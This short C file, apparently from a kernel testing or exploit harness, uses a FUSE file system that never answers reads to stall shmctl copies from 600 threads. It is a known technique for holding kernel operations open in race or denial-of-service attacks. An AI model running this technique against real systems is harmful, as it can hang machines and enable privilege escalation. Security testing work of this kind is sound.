// Buffers for shmctl in a file of the attacker's file system, which does not answer: whoever copies
// to them waits.
#include "fuse_files.h"

static void stat_for_ever(void* segment, int number) {
  const int file = open("/mnt/file", O_RDWR | O_CLOEXEC);
  char* const at = mmap(NULL, 64 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
  if (at == MAP_FAILED) return;
  shm_ctl(*(int*)segment, number % 2 == 0 ? IPC_STAT : IPC_SET, at + (number % 64) * (int)PAGE);
}

void attack_memory_on_fuse(void) {
  serve_files("/mnt", UNANSWERED(FUSE_READ));
  become_nobody();
  int segment = make_segment(1, 0600);
  crowd(600, stat_for_ever, &segment);
  while (!time_is_up()) pause_for(0.05);
}
